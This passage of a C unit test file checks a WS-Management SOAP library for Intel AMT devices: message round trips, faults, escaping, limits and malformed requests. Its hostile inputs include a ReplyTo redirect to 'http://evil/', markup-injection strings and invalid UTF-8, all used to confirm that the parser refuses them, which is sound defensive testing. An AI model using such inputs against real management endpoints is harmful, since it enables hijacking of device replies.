/* WS-Management envelopes (docs/protocol.md section 4): client build -> device parse, device
 * build -> client parse, faults, escaping, limits, and hostile XML. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "core/bytes.h"
#include "wsman/amt.h"
#include "core/base64.h"
#include "wsman/soap.h"

#define TO "https://192.0.2.10:16993/wsman"

struct fx {
	struct pp_wsman_call call;
	struct pp_wsman_request req;
	struct pp_wsman_response resp;
	struct pp_buf buf;
	struct pp_buf reply;
	struct pp_err err;
	struct pp_wsman_props props;
	struct pp_wsman_props sel;
};

static int setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	if (!f)
		return -1;
	pp_buf_init(&f->buf, PP_WSMAN_DOC_MAX);
	pp_buf_init(&f->reply, PP_WSMAN_DOC_MAX);
	pp_wsman_props_init(&f->props);
	pp_wsman_props_init(&f->sel);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	pp_buf_free_wipe(&f->buf);
	pp_buf_free_wipe(&f->reply);
	pp_wsman_request_wipe(&f->req);
	pp_wsman_response_wipe(&f->resp);
	pp_wsman_props_wipe(&f->props);
	free(f);
	return 0;
}

static const char *text(struct pp_buf *b)
{
	return (const char *)b->data;
}

static void assert_err_has(const struct pp_err *err, const char *needle)
{
	if (!strstr(err->msg, needle))
		fail_msg("error '%s' does not mention '%s'", err->msg, needle);
}

/* ---- round trips ---- */

static void test_get_roundtrip(void **state)
{
	struct fx *f = *state;
	assert_int_equal(
	    pp_wsman_props_add(&f->sel, PP_CIM_P_INSTANCE_ID, "AMT FW Core Version", &f->err), 0);
	assert_int_equal(pp_wsman_build_get(TO, PP_CIM_URI_SOFTWARE_IDENTITY, &f->sel, &f->call,
					    &f->buf, &f->err),
			 0);
	assert_int_equal(f->call.op, PP_WSMAN_OP_GET);
	assert_string_equal(f->call.action, PP_WSMAN_ACTION_GET);
	assert_int_equal(strncmp(f->call.message_id, "uuid:", 5), 0);
	assert_int_equal(strlen(f->call.message_id), 41);
	assert_non_null(strstr(text(&f->buf), "PT60S"));

	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_GET);
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_NONE);
	assert_string_equal(f->req.to, TO);
	assert_string_equal(f->req.resource_uri, PP_CIM_URI_SOFTWARE_IDENTITY);
	assert_string_equal(f->req.action, PP_WSMAN_ACTION_GET);
	assert_string_equal(f->req.message_id, f->call.message_id);
	assert_string_equal(f->req.operation_timeout, "PT60S");
	assert_string_equal(f->req.body_name, "");
	assert_int_equal(f->req.params.count, 0);
	assert_int_equal(f->req.selectors.count, 1);
	assert_string_equal(pp_wsman_props_get(&f->req.selectors, "InstanceID"),
			    "AMT FW Core Version");

	/* Device answers with the instance; the client checks it belongs to its call. */
	assert_int_equal(
	    pp_wsman_props_add(&f->props, PP_CIM_P_INSTANCE_ID, "AMT FW Core Version", &f->err), 0);
	assert_int_equal(pp_wsman_props_add(&f->props, PP_CIM_P_VERSION_STRING, "6.2.61", &f->err),
			 0);
	assert_int_equal(pp_wsman_response_build(&f->req, PP_CIM_SOFTWARE_IDENTITY, &f->props,
						 &f->reply, &f->err),
			 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_false(f->resp.is_fault);
	assert_string_equal(f->resp.relates_to, f->call.message_id);
	assert_string_equal(f->resp.action, PP_WSMAN_ACTION_GET "Response");
	assert_string_not_equal(f->resp.message_id, f->call.message_id);
	assert_string_equal(f->resp.body_name, PP_CIM_SOFTWARE_IDENTITY);
	assert_int_equal(f->resp.props.count, 2);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "VersionString"), "6.2.61");
	assert_false(f->resp.has_return_value);
}

static void test_put_roundtrip(void **state)
{
	struct fx *f = *state;
	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_HOST_NAME, "pc-0042", &f->err), 0);
	assert_int_equal(
	    pp_wsman_props_add(&f->props, PP_AMT_P_DOMAIN_NAME, "corp.example.org", &f->err), 0);
	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_AMT_NETWORK_ENABLED, "1", &f->err),
			 0);
	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
					    &f->call, &f->buf, &f->err),
			 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_PUT);
	assert_string_equal(f->req.body_name, PP_AMT_GENERAL_SETTINGS);
	assert_int_equal(f->req.params.count, 3);
	for (size_t i = 0; i < 3; i++) {
		assert_string_equal(f->req.params.item[i].name, f->props.item[i].name);
		assert_string_equal(f->req.params.item[i].value, f->props.item[i].value);
	}
	assert_int_equal(f->req.selectors.count, 0);

	/* PutResponse with the updated instance, and with an empty body: both accepted. */
	assert_int_equal(pp_wsman_response_build(&f->req, PP_AMT_GENERAL_SETTINGS, &f->req.params,
						 &f->reply, &f->err),
			 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "HostName"), "pc-0042");
	assert_int_equal(pp_wsman_response_build(&f->req, NULL, NULL, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(f->resp.body_name, "");
	assert_int_equal(f->resp.props.count, 0);
}

static void test_invoke_roundtrip(void **state)
{
	struct fx *f = *state;
	char pid[16], pps[48];
	assert_int_equal(pp_b64_encode("0000037M", 8, pid, sizeof(pid), &f->err), 0);
	assert_int_equal(
	    pp_b64_encode("NKLDG5DCRRNQE9YZZIJL7LFLVJED69XJ", 32, pps, sizeof(pps), &f->err), 0);
	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_PID, pid, &f->err), 0);
	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_PPS, pps, &f->err), 0);
	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
					       PP_AMT_SET_TLS_PSK, NULL, &f->props, &f->call,
					       &f->buf, &f->err),
			 0);
	assert_string_equal(f->call.action,
			    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE "/SetTLSPSK");
	assert_non_null(strstr(text(&f->buf), "SetTLSPSK_INPUT"));

	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.op, PP_WSMAN_OP_INVOKE);
	assert_string_equal(f->req.method, "SetTLSPSK");
	assert_string_equal(f->req.body_name, "SetTLSPSK_INPUT");
	assert_string_equal(pp_wsman_props_get(&f->req.params, "PID"), pid);
	assert_string_equal(pp_wsman_props_get(&f->req.params, "PPS"), pps);

	assert_int_equal(
	    pp_wsman_output_build(&f->req, PP_AMT_STATUS_SUCCESS, NULL, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_string_equal(f->resp.body_name, "SetTLSPSK_OUTPUT");
	assert_true(f->resp.has_return_value);
	assert_int_equal(f->resp.return_value, 0);
	assert_string_equal(f->resp.action,
			    PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE "/SetTLSPSKResponse");
}

static void test_invoke_no_params_and_outputs(void **state)
{
	struct fx *f = *state;
	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_TIME_SYNCHRONIZATION_SERVICE,
					       PP_AMT_GET_LOW_ACCURACY_TIME_SYNCH, NULL, NULL,
					       &f->call, &f->buf, &f->err),
			 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_string_equal(f->req.body_name, "GetLowAccuracyTimeSynch_INPUT");
	assert_int_equal(f->req.params.count, 0);
	assert_int_equal(pp_wsman_props_add(&f->props, PP_AMT_P_TA0, "1700000000", &f->err), 0);
	assert_int_equal(pp_wsman_output_build(&f->req, 0x24, &f->props, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	assert_int_equal(f->resp.return_value, PP_AMT_STATUS_INVALID_PARAMETER);
	assert_string_equal(pp_wsman_props_get(&f->resp.props, "Ta0"), "1700000000");
	/* ReturnValue comes first, as AMT sends it. */
	assert_string_equal(f->resp.props.item[0].name, "ReturnValue");

	/* Output for a Get is refused. */
	struct pp_wsman_request *get = calloc(1, sizeof(*get));
	assert_non_null(get);
	get->op = PP_WSMAN_OP_GET;
	assert_true(pp_wsman_output_build(get, 0, NULL, &f->reply, &f->err) < 0);
	free(get);
}

static void test_relates_to_mismatch(void **state)
{
	struct fx *f = *state;
	struct pp_wsman_call other;
	struct pp_buf b2;
	pp_buf_init(&b2, PP_WSMAN_DOC_MAX);
	assert_int_equal(
	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
	    0);
	assert_int_equal(
	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &other, &b2, &f->err), 0);
	assert_string_not_equal(f->call.message_id, other.message_id);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_build(&f->req, PP_AMT_GENERAL_SETTINGS, NULL, &f->reply, &f->err), 0);
	/* The answer to the first request, checked against the second: refused. */
	assert_int_equal(
	    pp_wsman_response_parse(&other, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "RelatesTo");
	assert_int_equal(f->resp.props.count, 0);
	/* A wrong action for the right message is refused too. */
	struct pp_wsman_call put = f->call;
	memcpy(put.action, PP_WSMAN_ACTION_PUT, sizeof(PP_WSMAN_ACTION_PUT));
	put.op = PP_WSMAN_OP_PUT;
	assert_int_equal(
	    pp_wsman_response_parse(&put, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "wsa:Action");
	/* And the wrong class in the body. */
	struct pp_wsman_call cls = f->call;
	snprintf(cls.resource_uri, sizeof(cls.resource_uri), "%s", PP_CIM_URI_SOFTWARE_IDENTITY);
	assert_int_equal(
	    pp_wsman_response_parse(&cls, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_err_has(&f->err, "AMT_GeneralSettings");
	pp_buf_free(&b2);
}

/* ---- faults ---- */

static void test_faults_roundtrip(void **state)
{
	struct fx *f = *state;
	static const struct {
		enum pp_wsman_fault fault;
		const char *name;
		int http;
	} cases[] = {
	    {PP_WSMAN_FAULT_ACCESS_DENIED, "wsman:AccessDenied", 400},
	    {PP_WSMAN_FAULT_ACTION_NOT_SUPPORTED, "wsa:ActionNotSupported", 400},
	    {PP_WSMAN_FAULT_INVALID_PARAMETER, "wsman:InvalidParameter", 400},
	    {PP_WSMAN_FAULT_DESTINATION_UNREACHABLE, "wsa:DestinationUnreachable", 400},
	    {PP_WSMAN_FAULT_INVALID_HEADER, "wsa:InvalidMessageInformationHeader", 400},
	    {PP_WSMAN_FAULT_ENCODING_LIMIT, "wsman:EncodingLimit", 400},
	    {PP_WSMAN_FAULT_SCHEMA_VALIDATION, "wsman:SchemaValidationError", 400},
	    {PP_WSMAN_FAULT_INTERNAL_ERROR, "wsman:InternalError", 500},
	};
	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
					       PP_AMT_COMMIT_CHANGES, NULL, NULL, &f->call, &f->buf,
					       &f->err),
			 0);
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int status = 0;
		assert_int_equal(pp_wsman_fault_build(&f->req, cases[i].fault, NULL, &f->reply,
						      &status, &f->err),
				 0);
		assert_int_equal(status, cases[i].http);
		assert_int_equal(pp_wsman_fault_http_status(cases[i].fault), cases[i].http);
		assert_string_equal(pp_wsman_fault_name(cases[i].fault), cases[i].name);
		assert_int_equal(pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len,
							 &f->resp, &f->err),
				 -PP_EPROTO);
		assert_true(f->resp.is_fault);
		assert_int_equal(f->resp.fault, cases[i].fault);
		assert_string_equal(f->resp.fault_subcode, cases[i].name);
		assert_string_equal(f->resp.relates_to, f->call.message_id);
		assert_true(strlen(f->resp.fault_reason) > 10);
		assert_err_has(&f->err, cases[i].name);
	}

	/* A custom reason with markup in it; no request (no RelatesTo) is still a fault. */
	assert_int_equal(pp_wsman_fault_build(NULL, PP_WSMAN_FAULT_ACCESS_DENIED,
					      "state <In-Setup> & not \"Post\"", &f->reply, NULL,
					      &f->err),
			 0);
	assert_null(strstr(text(&f->reply), "RelatesTo"));
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err),
	    -PP_EPROTO);
	assert_true(f->resp.is_fault);
	assert_string_equal(f->resp.fault_reason, "state <In-Setup> & not \"Post\"");
	assert_int_equal(
	    pp_wsman_fault_build(NULL, PP_WSMAN_FAULT_NONE, NULL, &f->reply, NULL, &f->err),
	    -PP_EINVAL);
}

static const char fault_other_prefix[] =
    "<?xml version=\"1.0\"?>"
    "<e:Envelope xmlns:e=\"http://www.w3.org/2003/05/soap-envelope\""
    " xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\""
    " xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\">"
    "<e:Header><a:RelatesTo>%s</a:RelatesTo>"
    "<a:Action>http://schemas.dmtf.org/wbem/wsman/1/wsman/fault</a:Action></e:Header>"
    "<e:Body><e:Fault><e:Code><e:Value>e:Sender</e:Value>"
    "<e:Subcode><e:Value>w:%s</e:Value></e:Subcode></e:Code>"
    "<e:Reason><e:Text xml:lang=\"en-US\">%s</e:Text></e:Reason>"
    "<e:Detail><w:FaultDetail>x</w:FaultDetail></e:Detail></e:Fault></e:Body></e:Envelope>";

static void test_fault_prefixes_and_reason(void **state)
{
	struct fx *f = *state;
	char doc[4096], reason[700];
	assert_int_equal(
	    pp_wsman_build_get(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->call, &f->buf, &f->err),
	    0);
	/* Other prefixes for the same namespaces: classified by namespace. */
	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "AccessDenied", "no");
	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_ACCESS_DENIED);
	assert_string_equal(f->resp.fault_subcode, "wsman:AccessDenied");
	/* Unknown subcode: kept as sent. */
	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "Concurrency", "busy");
	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_OTHER);
	assert_string_equal(f->resp.fault_subcode, "w:Concurrency");
	/* A long reason is cut on a character boundary (2-byte UTF-8 "é" everywhere). */
	size_t n = 0;
	reason[n++] = 'x';
	while (n + 2 < 690) {
		reason[n++] = (char)0xC3;
		reason[n++] = (char)0xA9;
	}
	reason[n] = '\0';
	snprintf(doc, sizeof(doc), fault_other_prefix, f->call.message_id, "AccessDenied", reason);
	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
	assert_int_equal(strlen(f->resp.fault_reason), PP_WSMAN_REASON_MAX - 1);
	assert_true(pp_wsman_text_valid(f->resp.fault_reason, strlen(f->resp.fault_reason)));
	/* A fault about another message is not ours. */
	snprintf(doc, sizeof(doc), fault_other_prefix, "uuid:someone-else", "AccessDenied", "no");
	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
	assert_false(f->resp.is_fault);
	/* Peer text in the message stays one printable line. */
	snprintf(doc, sizeof(doc), fault_other_prefix, "uuid:a&#10;b\xc3\xa9", "AccessDenied",
		 "no");
	assert_int_equal(pp_wsman_response_parse(&f->call, doc, strlen(doc), &f->resp, &f->err),
			 -PP_EPROTO);
	assert_err_has(&f->err, "uuid:a b??");
	assert_int_equal(f->resp.fault, PP_WSMAN_FAULT_NONE);
	assert_string_equal(f->resp.fault_subcode, "");
	assert_err_has(&f->err, "RelatesTo");
}

/* ---- escaping ---- */

static void test_escaping_roundtrip(void **state)
{
	struct fx *f = *state;
	static const char *const values[] = {
	    "<&>\"'",
	    "a<b>c&d;e\"f'g",
	    "&amp; stays &amp;",
	    "]]> and <![CDATA[x]]>",
	    "<!-- not a comment -->",
	    "tab\tnewline\ncarriage\rreturn",
	    "  spaces kept  ",
	    "unicode: \xc3\xa9\xe2\x82\xac\xf0\x9f\x94\x91",
	    "",
	};
	size_t nv = sizeof(values) / sizeof(values[0]);
	for (size_t i = 0; i < nv; i++) {
		char name[16];
		snprintf(name, sizeof(name), "P%zu", i);
		assert_int_equal(pp_wsman_props_add(&f->props, name, values[i], &f->err), 0);
	}
	assert_int_equal(pp_wsman_props_add(&f->sel, "Name", "<&>\"'", &f->err), 0);
	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_SETUP_AND_CONFIGURATION_SERVICE,
					       PP_AMT_SET_MEBX_PASSWORD, &f->sel, &f->props,
					       &f->call, &f->buf, &f->err),
			 0);
	/* Nothing raw: the markup characters of the values appear only escaped. */
	assert_null(strstr(text(&f->buf), "a<b>"));
	assert_null(strstr(text(&f->buf), "c&d;"));
	assert_null(strstr(text(&f->buf), "<!-- not"));
	assert_non_null(strstr(text(&f->buf), "&lt;&amp;&gt;"));
	assert_int_equal(pp_wsman_request_parse(f->buf.data, f->buf.len, &f->req, &f->err), 0);
	assert_int_equal(f->req.params.count, nv);
	for (size_t i = 0; i < nv; i++)
		assert_string_equal(f->req.params.item[i].value, values[i]);
	assert_string_equal(pp_wsman_props_get(&f->req.selectors, "Name"), "<&>\"'");

	/* And back from the device. */
	assert_int_equal(pp_wsman_output_build(&f->req, 0, &f->req.params, &f->reply, &f->err), 0);
	assert_int_equal(
	    pp_wsman_response_parse(&f->call, f->reply.data, f->reply.len, &f->resp, &f->err), 0);
	for (size_t i = 0; i < nv; i++)
		assert_string_equal(f->resp.props.item[i + 1].value, values[i]);
}

static void test_props_limits(void **state)
{
	struct fx *f = *state;
	char big[PP_WSMAN_VALUE_MAX + 2];
	memset(big, 'v', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_int_equal(pp_wsman_props_add(&f->props, "Big", big, &f->err), -PP_ETOOBIG);
	assert_err_has(&f->err, "Big");
	big[PP_WSMAN_VALUE_MAX] = '\0';
	assert_int_equal(pp_wsman_props_add(&f->props, "Big", big, &f->err), 0);
	pp_wsman_props_wipe(&f->props);
	assert_int_equal(f->props.count, 0);

	assert_int_equal(pp_wsman_props_add(&f->props, "Ctl", "a\x01z", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "Utf", "\xc3\x28", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "Over", "\xc0\xaf", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "Sur", "\xed\xa0\x80", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "FFFE", "\xef\xbf\xbe", &f->err),
			 -PP_EINVAL);
	assert_int_equal(pp_wsman_props_addn(&f->props, "Nul", "a\0b", 3, &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "1bad", "x", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "a:b", "x", &f->err), -PP_EINVAL);
	assert_int_equal(pp_wsman_props_add(&f->props, "", "x", &f->err), -PP_EINVAL);
	for (int i = 0; i < PP_WSMAN_PROPS_MAX; i++)
		assert_int_equal(pp_wsman_props_add(&f->props, "Realms", "x", &f->err), 0);
	assert_int_equal(pp_wsman_props_add(&f->props, "Realms", "x", &f->err), -PP_ETOOBIG);

	/* Output ceiling: a small pp_buf refuses the envelope. */
	struct pp_buf small;
	pp_buf_init(&small, 200);
	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
					    &f->call, &small, &f->err),
			 -PP_ETOOBIG);
	pp_buf_free(&small);

	/* A hand-made list that bypassed pp_wsman_props_add is checked before sending. */
	pp_wsman_props_wipe(&f->props);
	f->props.count = 1;
	snprintf(f->props.item[0].name, sizeof(f->props.item[0].name), "Ok");
	snprintf(f->props.item[0].value, sizeof(f->props.item[0].value), "bad\x02");
	assert_int_equal(pp_wsman_build_put(TO, PP_AMT_URI_GENERAL_SETTINGS, NULL, &f->props,
					    &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	assert_int_equal(pp_wsman_build_invoke(TO, PP_AMT_URI_GENERAL_SETTINGS, "bad/method", NULL,
					       NULL, &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	/* Names that would not fit are refused, never cut short. */
	char uri[256], method[PP_WSMAN_NAME_MAX + 1];
	memset(method, 'M', PP_WSMAN_NAME_MAX - 3);
	method[PP_WSMAN_NAME_MAX - 3] = '\0';
	snprintf(uri, sizeof(uri), "%s%s", PP_AMT_SCHEMA, method);
	assert_int_equal(pp_wsman_build_put(TO, uri, NULL, NULL, &f->call, &f->buf, &f->err), 0);
	assert_int_equal(
	    pp_wsman_build_invoke(TO, uri, method, NULL, NULL, &f->call, &f->buf, &f->err),
	    -PP_EINVAL);
	assert_err_has(&f->err, "at most 64 bytes");
	snprintf(uri, sizeof(uri), "%s%sMMMM", PP_AMT_SCHEMA, method);
	assert_int_equal(pp_wsman_build_put(TO, uri, NULL, NULL, &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
	assert_int_equal(
	    pp_wsman_build_put(TO, PP_AMT_SCHEMA, NULL, NULL, &f->call, &f->buf, &f->err),
	    -PP_EINVAL);
	assert_int_equal(pp_wsman_build_get("has space", PP_AMT_URI_GENERAL_SETTINGS, NULL,
					    &f->call, &f->buf, &f->err),
			 -PP_EINVAL);
}

/* ---- hand-written requests ---- */

#define NS_DECL                                                                                    \
	" xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\""                                     \
	" xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\""                          \
	" xmlns:wsman=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\""
#define H_ACTION "<wsa:Action>" PP_WSMAN_ACTION_GET "</wsa:Action>"
#define H_TO "<wsa:To>/wsman</wsa:To>"
#define H_URI "<wsman:ResourceURI>" PP_AMT_URI_GENERAL_SETTINGS "</wsman:ResourceURI>"
#define H_ID "<wsa:MessageID>uuid:00000000-8086-0000-0000-000000000001</wsa:MessageID>"
#define H_REPLY "<wsa:ReplyTo><wsa:Address>" PP_WSMAN_ANONYMOUS "</wsa:Address></wsa:ReplyTo>"

static char doc_buf[8192];

static const char *get_doc(const char *headers, const char *body)
{
	snprintf(doc_buf, sizeof(doc_buf),
		 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><s:Envelope" NS_DECL
		 "><s:Header>%s</s:Header><s:Body>%s</s:Body></s:Envelope>",
		 headers, body);
	return doc_buf;
}

static int parse_doc(struct fx *f, const char *doc)
{
	return pp_wsman_request_parse(doc, strlen(doc), &f->req, &f->err);
}

static void test_missing_headers(void **state)
{
	struct fx *f = *state;
	static const struct {
		const char *headers;
		const char *missing;
	} cases[] = {
	    {H_TO H_URI H_ID H_REPLY, "wsa:Action"},
	    {H_ACTION H_URI H_ID H_REPLY, "wsa:To"},
	    {H_ACTION H_TO H_ID H_REPLY, "wsman:ResourceURI"},
	    {H_ACTION H_TO H_URI H_REPLY, "wsa:MessageID"},
	    {H_ACTION H_TO H_URI H_ID, "wsa:ReplyTo"},
	};
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY, "")), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_equal(parse_doc(f, get_doc(cases[i].headers, "")), -PP_EINVAL);
		assert_err_has(&f->err, cases[i].missing);
		assert_err_has(&f->err, "missing");
		assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
		/* The MessageID, when present, is kept so the fault can relate to it. */
		if (strcmp(cases[i].missing, "wsa:MessageID") != 0)
			assert_string_equal(f->req.message_id,
					    "uuid:00000000-8086-0000-0000-000000000001");
	}
	/* The fault for a request without a MessageID has no RelatesTo. */
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_REPLY, "")), -PP_EINVAL);
	assert_int_equal(
	    pp_wsman_fault_build(&f->req, f->req.fault, NULL, &f->reply, NULL, &f->err), 0);
	assert_null(strstr(text(&f->reply), "RelatesTo"));

	/* No s:Header at all, an empty header, a duplicated header. */
	snprintf(doc_buf, sizeof(doc_buf), "<s:Envelope" NS_DECL "><s:Body/></s:Envelope>");
	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
	assert_err_has(&f->err, "s:Header is missing");
	assert_int_equal(
	    parse_doc(f,
		      get_doc(H_ACTION H_TO H_URI H_REPLY "<wsa:MessageID>  </wsa:MessageID>", "")),
	    -PP_EINVAL);
	assert_err_has(&f->err, "empty");
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_ACTION H_TO H_URI H_ID H_REPLY, "")),
			 -PP_EINVAL);
	assert_err_has(&f->err, "twice");
	/* No s:Body. */
	snprintf(doc_buf, sizeof(doc_buf),
		 "<s:Envelope" NS_DECL "><s:Header>" H_ACTION H_TO H_URI H_ID H_REPLY
		 "</s:Header></s:Envelope>");
	assert_int_equal(parse_doc(f, doc_buf), -PP_EINVAL);
	assert_err_has(&f->err, "s:Body is missing");
}

static void test_header_rules(void **state)
{
	struct fx *f = *state;
	/* Pretty-printed, MeshCommander-style (default namespace, MessageID "1"). */
	static const char pretty[] =
	    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
	    "<Envelope xmlns=\"http://www.w3.org/2003/05/soap-envelope\"\n"
	    "   xmlns:a=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\"\n"
	    "   xmlns:w=\"http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\">\n"
	    " <Header>\n"
	    "  <a:Action>\n   " PP_WSMAN_ACTION_GET "\n  </a:Action>\n"
	    "  <a:To>/wsman</a:To>\n"
	    "  <w:ResourceURI>" PP_AMT_URI_GENERAL_SETTINGS "</w:ResourceURI>\n"
	    "  <a:MessageID>1</a:MessageID>\n"
	    "  <a:ReplyTo><a:Address>" PP_WSMAN_ANONYMOUS "</a:Address></a:ReplyTo>\n"
	    "  <w:OperationTimeout>PT60S</w:OperationTimeout>\n"
	    "  <w:MaxEnvelopeSize Envelope:mustUnderstand=\"true\""
	    " xmlns:Envelope=\"http://www.w3.org/2003/05/soap-envelope\">51200</"
	    "w:MaxEnvelopeSize>\n"
	    "  <w:Locale xml:lang=\"en-US\" Envelope:mustUnderstand=\"false\""
	    " xmlns:Envelope=\"http://www.w3.org/2003/05/soap-envelope\"/>\n"
	    " </Header>\n"
	    " <Body/>\n"
	    "</Envelope>\n";
	assert_int_equal(parse_doc(f, pretty), 0);
	assert_string_equal(f->req.action, PP_WSMAN_ACTION_GET);
	assert_string_equal(f->req.message_id, "1");

	/* An unknown header that must be understood is refused; optional ones are not. */
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY
					      "<x:Y xmlns:x=\"urn:x\" s:mustUnderstand=\"true\"/>",
					      "")),
			 -PP_EINVAL);
	assert_err_has(&f->err, "must be understood");
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID H_REPLY
					      "<x:Y xmlns:x=\"urn:x\" s:mustUnderstand=\"false\"/>",
					      "")),
			 0);
	/* ReplyTo elsewhere. */
	assert_int_equal(
	    parse_doc(f, get_doc(H_ACTION H_TO H_URI H_ID "<wsa:ReplyTo><wsa:Address>http://evil/"
							  "</wsa:Address></wsa:ReplyTo>",
				 "")),
	    -PP_EINVAL);
	assert_err_has(&f->err, "anonymous");
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
	/* Header values that are not URIs. */
	assert_int_equal(parse_doc(f, get_doc(H_ACTION H_TO H_ID H_REPLY
					      "<wsman:ResourceURI>http://a b/</wsman:ResourceURI>",
					      "")),
			 -PP_EINVAL);
	assert_err_has(&f->err, "wsman:ResourceURI");
	assert_int_equal(f->req.fault, PP_WSMAN_FAULT_INVALID_HEADER);
	assert_int_equal(
	    parse_doc(f, get_doc(H_ACTION H_URI H_ID H_REPLY "<wsa:To>/ws\xc3\xa9</wsa:To>", "")),
	    -PP_EINVAL);
	assert_err_has(&f->err, "wsa:To");
	/* Headers in the wrong namespace are not the headers. */
	assert_int_equal(parse_doc(f, get_doc("<wsman:Action>" PP_WSMAN_ACTION_GET
					      "</wsman:Action>" H_TO H_URI H_ID H_REPLY,
					      "")),
			 -PP_EINVAL);
	assert_err_has(&f->err, "wsa:Action is missing");
	/* A header value with an element inside. */
